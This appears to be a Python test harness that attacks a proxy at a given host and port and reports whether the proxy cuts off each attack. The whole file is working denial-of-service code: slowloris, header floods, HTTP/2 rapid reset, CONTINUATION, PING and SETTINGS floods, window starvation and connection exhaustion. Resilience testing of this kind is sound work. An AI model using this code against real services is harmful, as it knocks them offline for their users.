"""Attacks on a proxy, each until it is stopped or has done its worst: attacker.py KIND HOST PORT.

The last line that it prints is JSON: how many connections it had, how many of them the proxy ended,
and how many bytes it could send.
"""
import json
import select
import signal
import socket
import struct
import sys
import time

kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEAD = b"GET /big HTTP/1.1\r\nHost: web\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path):
    pairs = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", path), (b":authority", b"web")]
    return b"".join(field(name, value) for name, value in pairs)


SETTINGS = frame(4, 0, 0)
NO_WINDOW = frame(4, 0, 0, struct.pack(">HI", 4, 0))


def connect():
    connection = socket.create_connection((host, port), timeout=5)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def is_readable(connection, seconds):
    """By poll: select takes no more than 1,024 files."""
    poll = select.poll()
    poll.register(connection, select.POLLIN)
    return bool(poll.poll(seconds * 1000))


def is_ended(connection):
    """Whether the other side has closed it; reads what there is."""
    try:
        while is_readable(connection, 0):
            if not connection.recv(65536):
                return True
    except OSError:
        return True
    return False


def flood(pieces, read, most_bytes=32 << 20, patience=3):
    """Sends until the proxy ends it, takes no more for a while, or has taken that much."""
    connection, sent = connect(), 0
    connection.settimeout(patience)
    try:
        for piece in pieces:
            connection.sendall(piece)
            sent += len(piece)
            if sent >= most_bytes or (read and is_ended(connection)):
                break
    except OSError:
        pass
    # What was sent may have been refused while it was under way.
    deadline = time.monotonic() + patience
    ended = is_ended(connection)
    while not ended and read and time.monotonic() < deadline:
        is_readable(connection, 0.2)
        ended = is_ended(connection)
    return int(ended), sent


def floods(number, pieces, read=True):
    print("attacking", flush=True)
    results = [flood(pieces(), read) for _ in range(number)]
    return number, sum(ended for ended, _ in results), max(sent for _, sent in results)


def endless(first, piece):
    def pieces():
        yield first
        while True:
            yield piece
    return pieces


def rapid_reset():
    yield PREFACE + SETTINGS
    head = request(b"/big")
    for first in range(1, 60_000, 128):
        streams = range(first, first + 128, 2)
        yield b"".join(frame(1, 5, it, head) + frame(3, 0, it, struct.pack(">I", 8)) for it in streams)


def held(number, first, each_second=b"", seconds=0):
    """Opens connections, says something on each, and now and then some more; never reads."""
    connections = []
    for _ in range(number):
        try:
            connection = connect()
            connection.sendall(first)
            connections.append(connection)
        except OSError:
            pass
    print("attacking", flush=True)
    deadline = time.monotonic() + seconds
    while each_second and time.monotonic() < deadline and connections:
        time.sleep(1)
        for connection in connections:
            try:
                connection.sendall(each_second)
            except OSError:
                pass
    return connections


def slow_loris():
    connections = held(300, HEAD, b"X-A: b\r\n", 16)
    return len(connections), sum(map(is_ended, connections)), 0


def windows():
    requests = b"".join(frame(1, 5, stream, request(b"/big")) for stream in range(1, 40, 2))
    connections = held(20, PREFACE + NO_WINDOW + requests)
    signal.pause()
    return len(connections), 0, 0


def idle():
    connections = held(10_000, b"")
    ended = sum(map(is_ended, connections))
    print("counted", ended, flush=True)
    signal.pause()
    return len(connections), ended, 0


KINDS = {
    "slow loris": slow_loris,
    "endless headers": lambda: floods(5, endless(HEAD, b"X-Endless: " + b"a" * 4000 + b"\r\n")),
    "one endless header": lambda: floods(5, endless(HEAD + b"X-Endless: ", b"a" * 4000)),
    "many headers": lambda: floods(5, endless(HEAD, b"a: b\r\n" * 500)),
    "rapid reset": lambda: floods(3, rapid_reset),
    "continuation flood": lambda: floods(
        3, endless(PREFACE + SETTINGS + frame(1, 1, 1, request(b"/big")), frame(9, 0, 1, field(b"x", b"a" * 100) * 100))
    ),
    "ping flood": lambda: floods(2, endless(PREFACE + SETTINGS, frame(6, 0, 0, b"12345678") * 1000), read=False),
    "settings flood": lambda: floods(2, endless(PREFACE + SETTINGS, SETTINGS * 1000), read=False),
    "windows": windows,
    "idle": idle,
}

total, ended, sent = KINDS[kind]()
print(json.dumps({"connections": total, "ended": ended, "sent": sent}), flush=True)
